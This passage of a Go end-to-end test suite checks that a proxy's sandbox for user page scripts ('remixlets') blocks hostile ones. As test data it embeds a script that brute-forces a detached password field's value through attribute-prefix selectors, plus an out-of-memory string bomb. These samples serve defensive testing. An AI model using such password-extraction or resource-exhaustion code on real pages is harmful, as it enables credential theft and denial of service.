				v, ok = h.storageValue(rx, "read")
				if wantN != "" {
					// The control keys arrived (the second one too), so the listeners were
					// there while the password was typed before them; the password's own
					// events never arrive, not even blank (their number is its length).
					ok = ok && strings.Contains(v, "user:input::23")
				}
				if ok || time.Now().After(deadline) {
					break
				}
			}
			if !ok {
				t.Errorf("%s: the remixlet did not report what it read (storage %q)\n%s", c.name, v, h.diagnose(rx))
			}
			if strings.Contains(strings.ToLower(v), "hunter") || strings.Contains(v, "unter2") {
				t.Errorf("%s: the remixlet read the password: it stored %q", c.name, v)
			}
			if c.name == "key events" {
				if !strings.Contains(v, "user:input:") {
					t.Errorf("%s: the control listener on the text field saw no input: %q", c.name, v)
				}
				if strings.Contains(v, "pw:") || strings.Count(v, ":keydown:") != 4 {
					t.Errorf("%s: events of the password field reached the remixlet (want only the two control keys, seen by form and body): %q", c.name, v)
				}
				// The remixlet would store what dom.value gave it after a password event.
				if typed, ok := h.storageValue(rx, "typed"); ok {
					t.Errorf("%s: a password field's event reached the remixlet, and dom.value of it gave %q", c.name, typed)
				}
			}
			t.Logf("%s: read %s", c.name, head(v, 300))
		}
		if log := remixletLog(t, h.st, rx.ID); strings.Contains(strings.ToLower(log), "hunter") {
			t.Errorf("%s: the remixlet's log has the password:\n%s", c.name, log)
		}
	}
	if n := e2etest.Eval[int](tab, `document.querySelectorAll('#box[class*="url("]').length`); n != 1 {
		t.Errorf("the harmless class names were not added (%d elements)", n)
	}
	if v := e2etest.Eval[string](tab, `document.getElementById('pw').type + ' ' + document.getElementById('pw').getAttribute('autocomplete')`); v != "password null" {
		t.Errorf("the password field was changed: type and autocomplete %q", v)
	}

	// Anything a refused change could have loaded would have been requested by now; give the
	// page a moment more, then check.
	time.Sleep(500 * time.Millisecond)
	h.checkNoWitnessThenControl("after the hostile remixlets ran on /main")
}

func TestHostileRemixletAddressesOnABasePage(t *testing.T) {
	h := startHostile(t)
	rxs := h.add(hostileBaseCases, "https://target.test/based*")
	tab := h.tab
	tab.Navigate("https://target.test/based")
	tab.WaitConnected()
	allDone := fmt.Sprintf(`[...document.querySelectorAll('p.st')].filter((e) => e.textContent === 'done').length === %d`, len(hostileBaseCases))
	if err := waitTrue(tab, 20*time.Second, allDone); err != nil {
		t.Fatalf("not every remixlet finished: %v\n%s", err, h.diagnose(rxs[0]))
	}
	for i, c := range hostileBaseCases {
		if log, ok := h.waitLog(rxs[i], regexp.MustCompile(c.wantLog), 5*time.Second); !ok {
			t.Errorf("%s: the remixlet's log does not match %q:\n%s", c.name, c.wantLog, log)
		}
	}
	if err := waitTrue(tab, 5*time.Second, `document.getElementById('img2').complete && document.getElementById('img2').naturalWidth === 1`); err != nil {
		t.Errorf("the absolute address on the page's origin did not load: %v", err)
	}
	if n := e2etest.Eval[int](tab, `document.querySelectorAll('base').length`); n != 1 {
		t.Errorf("%d base elements in the page, want the page's own 1", n)
	}
	time.Sleep(500 * time.Millisecond)
	h.checkNoWitnessThenControl("after the remixlets ran on /based")
}

// TestHostileRemixletDetachedPasswordBySelector: a remixlet removes the only form with a
// password field, so the page no longer "has a password field", and then tests value selectors
// against the detached form it still holds a handle to.
func TestHostileRemixletDetachedPasswordBySelector(t *testing.T) {
	h := startHostile(t)
	body := `const f = await dom.query('#f');
await dom.remove(f);
let got = '';
const chars = 'abcdefghijklmnopqrstuvwxyz0123456789';
for (let i = 0; i < 12; i++) {
  let next = '';
  for (const c of chars) {
    if (await dom.query('input[value^="' + got + c + '"]', f)) { next = c; break; }
  }
  if (!next) break;
  got += next;
}
await rmx.storage.set('read', got || 'nothing');`
	rxs := h.add([]hostileCase{{name: "detached value selector", storage: true, body: body}}, "https://target.test/detached*")
	h.tab.Navigate("https://target.test/detached")
	h.tab.WaitConnected()
	if err := waitTrue(h.tab, 15*time.Second, `document.getElementById('s-0').textContent === 'done'`); err != nil {
		t.Fatalf("the remixlet did not finish: %v\n%s", err, h.diagnose(rxs[0]))
	}
	v, _ := h.storageValue(rxs[0], "read")
	if strings.Contains(v, "hunter") {
		t.Errorf("BUG: the remixlet read the password %q by value selectors on a detached form (the page-has-a-password check looks only at the document)\n%s", v, h.diagnose(rxs[0]))
	}
	h.checkNoWitness("after the detached-selector remixlet")
}

// TestHostileRemixletLimitsLeaveTheProxyUp runs each limit case on a page of its own, beside a
// benign remixlet: the hostile one is stopped with its reason in its log, the proxy stays up, the
// page loads again and the benign remixlet works on it.
func TestHostileRemixletLimitsLeaveTheProxyUp(t *testing.T) {
	h := startHostile(t)
	benign := saveUnchecked(t, h.st, "benign", store.Files{
		sandbox.ManifestFile: []byte(hostileManifest("benign", "https://target.test/limits/*", false)),
		sandbox.ScriptFile:   []byte(hostileBenignScript),
	})
	tab := h.tab
	for i, c := range hostileLimitCases {
		page := fmt.Sprintf("https://target.test/limits/%d", i)
		rx := h.add([]hostileCase{c}, page)[0]
		tab.Navigate(page)
		tab.WaitConnected()
		if err := waitTrue(tab, 10*time.Second, `document.getElementById('s-0').textContent !== ''`); err != nil {
			t.Errorf("%s: did not start: %v\n%s", c.name, err, h.diagnose(rx))
			continue
		}
		log, ok := h.waitLog(rx, regexp.MustCompile(c.wantLog), 10*time.Second)
		if !ok {
			t.Errorf("%s: the remixlet's log does not say why it was stopped (want %q):\n%s", c.name, c.wantLog, log)
		}
		t.Logf("%s: log:\n%s", c.name, log)
		if _, _, err := h.p.Status(); err != nil {
			t.Fatalf("%s: the proxy's status does not answer: %v", c.name, err)
		}
		// The same page loads again, and the benign remixlet on it runs (the hostile one runs
		// again beside it).
		tab.Reload()
		tab.WaitConnected()
		if err := waitTrue(tab, 10*time.Second, `document.getElementById('benign').textContent === 'benign ran'`); err != nil {
			t.Errorf("%s: the benign remixlet did not run on the reloaded page: %v\n%s", c.name, err, h.diagnose(benign))
		}
		if err := h.st.SetEnabled(context.Background(), rx.ID, false); err != nil {
			t.Fatal(err)
		}
	}
	if log := remixletLog(t, h.st, benign.ID); strings.Contains(log, "stopped:") {
		t.Errorf("the benign remixlet was stopped:\n%s", log)
	}
	time.Sleep(300 * time.Millisecond)
	h.checkNoWitness("after the limit cases")
}

// TestHostileRemixletHostDeathBlamesTheCulprit: a remixlet whose built-in makes the shared
// sandbox host die at once ('x'.repeat(2**40): a fatal out-of-memory in the child, not a stuck
// task) runs beside a benign remixlet that is busy with short tasks well within its budget (20 ms
// of the 250 ms budget). Only the hostile one may be stopped.
func TestHostileRemixletHostDeathBlamesTheCulprit(t *testing.T) {
	h := startHostile(t)
	busy := saveUnchecked(t, h.st, "busy benign", store.Files{
		sandbox.ManifestFile: []byte(hostileManifest("busy benign", "https://target.test/limits/busy", false)),
		sandbox.ScriptFile: []byte(`const b = await dom.query('#benign');
let rounds = 0;
const work = () => { const end = Date.now() + 20; while (Date.now() < end) {} rounds++; setTimeout(work, 0); };
setInterval(() => dom.setText(b, 'rounds ' + rounds), 100);
work();
`),
	})
	bomb := saveUnchecked(t, h.st, "repeat bomb", store.Files{
		sandbox.ManifestFile: []byte(hostileManifest("repeat bomb", "https://target.test/limits/busy", false)),
		sandbox.ScriptFile:   []byte(`await new Promise((r) => setTimeout(r, 500)); const s = 'x'.repeat(2 ** 40); rmx.log(s.length);`),
	})
	h.tab.Navigate("https://target.test/limits/busy")
	h.tab.WaitConnected()
	if log, ok := h.waitLog(bomb, regexp.MustCompile(`stopped: `), 15*time.Second); !ok {
		t.Errorf("the repeat bomb was not stopped:\n%s\nthe busy remixlet's log:\n%s", log, remixletLog(t, h.st, busy.ID))
	}
	t.Logf("the bomb's log:\n%s", remixletLog(t, h.st, bomb.ID))
	if log := remixletLog(t, h.st, busy.ID); strings.Contains(log, "stopped:") {
		t.Errorf("BUG: the busy benign remixlet was stopped for the sandbox host's death that the repeat bomb caused:\n%s\nthe bomb's log:\n%s", log, remixletLog(t, h.st, bomb.ID))
	}
}
